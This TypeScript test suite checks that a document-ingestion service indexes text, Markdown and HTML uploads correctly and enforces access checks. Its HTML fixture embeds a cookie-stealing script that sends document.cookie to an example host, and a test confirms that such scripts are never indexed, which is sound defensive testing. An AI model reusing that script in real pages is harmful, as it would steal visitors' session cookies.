import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { listAuditEvents } from "../../db/queries/audit-events";
import { createCollection } from "../../db/queries/collections";
import { getVersionWithDocument } from "../../db/queries/documents";
import { upsertGrant } from "../../db/queries/grants";
import { getJobById } from "../../db/queries/ingest-jobs";
import { insertUser } from "../../db/queries/users";
import { answerSources } from "../../db/schema";
import { startAnswer } from "../../lib/answer/start-answer";
import { auditedSourcePage } from "../../lib/answers/audited-source-page";
import type { Actor, Role } from "../../lib/domain/actor";
import type { AnswerEvent } from "../../lib/domain/answer-events";
import { readablePagePreview } from "../../lib/previews/preview-access";
import { previewPage } from "../../lib/previews/preview-page";
import { retrieveContext } from "../../lib/retrieval/retrieve-context";
import { storedBlobs } from "../support/instrumented-folio";
import { bytesOf, createTestFolio, drainQueue, type TestFolio } from "../support/test-runtime";

const markdown = `# Travel policy

How staff travel for work.

## Trains

Second class by default.

| Journey | Class |
|---|---|
| Under four hours | Second |
| Over four hours | First |

## Hotels

Hotels cost at most 150 euros a night in the capital.
`;

const html = `<!DOCTYPE html>
<html><head><title>Canteen</title><script>fetch("https://example.com/steal?" + document.cookie)</script>
<style>body { display: none }</style></head>
<body>
<h1>Canteen rules</h1>
<p>The canteen opens at half past eleven &amp; closes at two.</p>
<h2>Allergens</h2>
<p>Every dish lists its allergens on the counter card.</p>
</body></html>`;

const plain = "Visitor badges are returned at reception.\n\nLost badges cost ten euros.\n";

let folio: TestFolio;
let collectionId: string;
let hotelAnswer: { answerId: string; n: number } | undefined;
const uploaded: Record<string, { documentId: string; versionId: string; jobId: string }> = {};

const upload = (fileName: string, data: Uint8Array) =>
  folio.ingest.accept({ collectionId, fileName, body: bytesOf(data), declaredBytes: data.byteLength });

beforeAll(async () => {
  folio = await createTestFolio({
    environment: { MAX_UPLOAD_BYTES: String(1024 * 1024), MAX_PDF_PAGES: "100" },
  });
  collectionId = (await createCollection({ db: folio.database.db, name: "policies" })).collection.id;
  const encode = (text: string) => new TextEncoder().encode(text);
  uploaded.markdown = await upload("travel.md", encode(markdown));
  uploaded.html = await upload("canteen.html", encode(html));
  uploaded.plain = await upload("badges.txt", encode(plain));
  await drainQueue(folio);
  console.info(`text-documents runs on ${folio.database.driver}`);
});

afterAll(async () => {
  await folio?.close();
});

describe("text, Markdown and HTML uploads", () => {
  it("are detected by bytes and name, and indexed with a page per section", async () => {
    const { db } = folio.database;
    const versions = await Promise.all(
      Object.values(uploaded).map(({ versionId }) => getVersionWithDocument({ db, versionId })),
    );
    expect(
      versions.map((found) => [found?.version.mediaType, found?.version.status, found?.version.pageCount]),
    ).toEqual([
      ["text/markdown", "indexed", 3],
      ["text/html", "indexed", 2],
      ["text/plain", "indexed", 1],
    ]);
  });

  it("retrieve a Markdown table with its heading path and its page's label", async () => {
    const passages = await retrieveContext(
      { db: folio.database.db, ...(await folio.embeddingParts()) },
      {
        question: "Which class for journeys over four hours?",
        collectionIds: [collectionId],
        limit: 10,
        mode: "text",
      },
    );
    const table = passages.find((passage) => passage.kind === "table");
    expect(table).toMatchObject({
      documentTitle: "travel.md",
      pageNumber: 2,
      pageLabel: "Trains",
      headingPath: ["Travel policy", "Trains"],
    });
    expect(table?.text).toContain("| Over four hours | First |");
  });

  it("never index an HTML page's scripts or styles", async () => {
    const passages = await retrieveContext(
      { db: folio.database.db, ...(await folio.embeddingParts()) },
      {
        question: "canteen allergens steal cookie display",
        collectionIds: [collectionId],
        limit: 20,
        mode: "text",
      },
    );
    const fromHtml = passages.filter((passage) => passage.documentId === uploaded.html?.documentId);
    expect(fromHtml.map((passage) => passage.pageLabel).sort()).toEqual(["Allergens", "Canteen rules"]);
    expect(fromHtml.map((passage) => passage.text).join(" ")).not.toMatch(/steal|cookie|display/);
    expect(fromHtml.map((passage) => passage.text).join(" ")).toContain("half past eleven & closes");
  });

  it("name the page by its label in the answer's sources, the ledger and the passages kept with the answer", async () => {
    const events: AnswerEvent[] = [];
    for await (const event of await startAnswer(folio, {
      question: "How much may a hotel cost?",
      collectionIds: [collectionId],
      actor: "tester",
    })) {
      events.push(event);
    }
    const retrieval = events.find((event) => event.type === "retrieval-end");
    if (retrieval?.type !== "retrieval-end") throw new Error("no retrieval-end event");
    const hotels = retrieval.sources.find((source) => source.text.includes("150 euros"));
    expect(hotels).toMatchObject({ pageNumber: 3, pageLabel: "Hotels" });
    const end = events.at(-1);
    if (end?.type !== "answer-end") throw new Error(`expected answer-end, got ${JSON.stringify(end)}`);
    const audit = (await listAuditEvents({ db: folio.database.db })).find(
      (event) => event.seq === end.auditSeq,
    );
    const chunks = JSON.parse(audit?.payload ?? "{}").chunks as { n: number; pageLabel?: string }[];
    expect(chunks.find((chunk) => chunk.n === hotels?.n)?.pageLabel).toBe("Hotels");
    const kept = await folio.database.db
      .select({ n: answerSources.n, pageLabel: answerSources.pageLabel })
      .from(answerSources)
      .where(eq(answerSources.answerId, end.answerId));
    expect(kept.find((row) => row.n === hotels?.n)?.pageLabel).toBe("Hotels");
    if (hotels) hotelAnswer = { answerId: end.answerId, n: hotels.n };
  });

  it("preview a page as its text, where the chunk's box is the passage's span", async () => {
    const { db } = folio.database;
    const found = await getVersionWithDocument({ db, versionId: uploaded.markdown?.versionId ?? "" });
    if (!found) throw new Error("no version");
    const content = await previewPage(folio, { version: found.version, pageNumber: 3, size: "reading" });
    if (content.kind !== "text") throw new Error("expected a text page");
    expect(content.page).toMatchObject({ pageNumber: 3, pageCount: 3, label: "Hotels" });
    const [chunk] = (
      await retrieveContext(
        { db, ...(await folio.embeddingParts()) },
        { question: "150 euros a night", collectionIds: [collectionId], limit: 1, mode: "text" },
      )
    ).filter((passage) => passage.pageNumber === 3);
    const box = chunk?.box;
    if (!box) throw new Error("the chunk has no box");
    expect(content.page.text.slice(box[1], box[3])).toBe(chunk.text);
    await expect(
      previewPage(folio, { version: found.version, pageNumber: 4, size: "reading" }),
    ).rejects.toMatchObject({ code: "not_found:page_number" });
  });
});

describe("large text files", () => {
  it("are read in a child process, with the same sections, labels and heading paths", async () => {
    const sections = Array.from(
      { length: 60 },
      (_, index) =>
        `## Clause ${index + 1}\n\nClause ${index + 1} is about tag${index + 1}x. ${"It applies to every contractor on site. ".repeat(120)}\n`,
    );
    const data = new TextEncoder().encode(`# Contractor terms\n\n${sections.join("\n")}`);
    expect(data.byteLength).toBeGreaterThan(256 * 1024);
    const accepted = await upload("contractor-terms.md", data);
    await drainQueue(folio);
    const { db } = folio.database;
    const found = await getVersionWithDocument({ db, versionId: accepted.versionId });
    expect(found?.version).toMatchObject({ status: "indexed", mediaType: "text/markdown" });
    expect(found?.version.pageCount).toBeGreaterThanOrEqual(60);
    const [hit] = await retrieveContext(
      { db, ...(await folio.embeddingParts()) },
      { question: "tag42x", collectionIds: [collectionId], limit: 5, mode: "text" },
    );
    expect(hit).toMatchObject({ pageLabel: "Clause 42", headingPath: ["Contractor terms", "Clause 42"] });
    // The reader's child process is alive while the pages stream (and gone after).
    const before = folio.ingest.reader.parserProcessIds.length;
    const read = await folio.ingest.reader.read({
      filePath: folio.blobs.pathOf(accepted.sha256),
      mediaType: "text/markdown",
      figureDirectory: null,
    });
    expect(folio.ingest.reader.parserProcessIds.length).toBe(before + 1);
    let pageCount = 0;
    for await (const _page of read.pages) pageCount += 1;
    expect(pageCount).toBe(found?.version.pageCount);
  });
});

describe("text in an older Windows encoding", () => {
  it('indexes a Windows-1252 ("ANSI") file with its accents, curly quotes and euro signs as written', async () => {
    const ansi = Uint8Array.from(
      [
        ..."Men\xfa du jour\r\n\r\nLa cr\xe8me br\xfbl\xe9e co\xfbte 5 \x80, \x93fa\xeete maison\x94.\r\n",
      ].map((c) => c.charCodeAt(0)),
    );
    const accepted = await upload("menu-ansi.txt", ansi);
    await drainQueue(folio);
    const { db } = folio.database;
    const found = await getVersionWithDocument({ db, versionId: accepted.versionId });
    expect(found?.version).toMatchObject({ status: "indexed", mediaType: "text/plain" });
    const [hit] = await retrieveContext(
      { db, ...(await folio.embeddingParts()) },
      { question: "crème brûlée", collectionIds: [collectionId], limit: 5, mode: "text" },
    );
    expect(hit).toMatchObject({ documentTitle: "menu-ansi.txt" });
    expect(hit?.text).toContain("La crème brûlée coûte 5 €, “faîte maison”.");
  });
});

describe("text pages behind the access checks", () => {
  async function addPerson(email: string, role: Role): Promise<Actor> {
    const user = await insertUser({ tx: folio.database.db, user: { email, displayName: email, role } });
    if (!user) throw new Error("no user");
    return { userId: user.id, email: user.email, displayName: user.displayName, role, via: "session" };
  }

  it("show a reader the page's text and an outsider nothing", async () => {
    const { db } = folio.database;
    const reader = await addPerson("reader@example.com", "employee");
    const outsider = await addPerson("outsider@example.com", "employee");
    await upsertGrant({ db, collectionId, grantee: { userId: reader.userId }, permission: "read" });
    const request = { documentId: uploaded.html?.documentId ?? "", pageNumber: 2, size: "reading" as const };
    const { content } = await readablePagePreview(folio, reader, request);
    expect(content).toMatchObject({
      kind: "text",
      page: { label: "Allergens", text: "Allergens\n\nEvery dish lists its allergens on the counter card." },
    });
    await expect(readablePagePreview(folio, outsider, request)).rejects.toMatchObject({
      code: "not_found:document",
    });
  });

  it("show an auditor the cited section's text as it was sent", async () => {
    if (!hotelAnswer) throw new Error("the answer test did not run");
    const auditor = await addPerson("auditor@example.com", "auditor");
    const { content } = await auditedSourcePage(folio, auditor, { ...hotelAnswer, size: "reading" });
    expect(content).toMatchObject({ kind: "text", page: { pageNumber: 3, label: "Hotels" } });
    const employee = await addPerson("employee@example.com", "employee");
    await expect(
      auditedSourcePage(folio, employee, { ...hotelAnswer, size: "reading" }),
    ).rejects.toMatchObject({
      category: expect.stringMatching(/forbidden|not_found/),
    });
  });
});

describe("bad text files", () => {
  it.each([
    [
      "binary junk named .txt",
      "junk.txt",
      Uint8Array.from({ length: 4096 }, (_, index) => (index * 7) % 256),
      "invalid:text_encoding",
    ],
    ["a 0-byte Markdown file", "empty.md", new Uint8Array(), "invalid:empty_file"],
    [
      "a text file over the size limit",
      "huge.txt",
      new Uint8Array(1100 * 1024).fill(0x61),
      "too_large:upload",
    ],
    ["a CSV file", "data.csv", new TextEncoder().encode("a,b\n1,2\n"), "unsupported:file_type"],
  ])("refuse %s before storing anything", async (_name, fileName, data, code) => {
    const before = (await storedBlobs(folio)).length;
    await expect(upload(fileName, data)).rejects.toMatchObject({ code });
    expect((await storedBlobs(folio)).length).toBe(before);
  });

  it("fail a document that makes more pages than MAX_PDF_PAGES, as a long PDF does", async () => {
    const sections = Array.from(
      { length: 120 },
      (_, index) => `# Section ${index + 1}\n\nText of section ${index + 1}.`,
    );
    const accepted = await upload("sections.md", new TextEncoder().encode(sections.join("\n\n")));
    await drainQueue(folio);
    expect(await getJobById({ db: folio.database.db, id: accepted.jobId })).toMatchObject({
      state: "failed",
      errorCode: "invalid:document_too_many_pages",
    });
  });

  it("fail a text file that turns binary after its first KiB with a typed reason (a large one, read in a child process)", async () => {
    const data = new Uint8Array([...new TextEncoder().encode("text ".repeat(60_000)), 0, 0, 0, 0xff, 0xfe]);
    const accepted = await upload("half-binary.txt", data);
    await drainQueue(folio);
    expect(await getJobById({ db: folio.database.db, id: accepted.jobId })).toMatchObject({
      state: "failed",
      errorCode: "invalid:text_encoding",
    });
  });
});
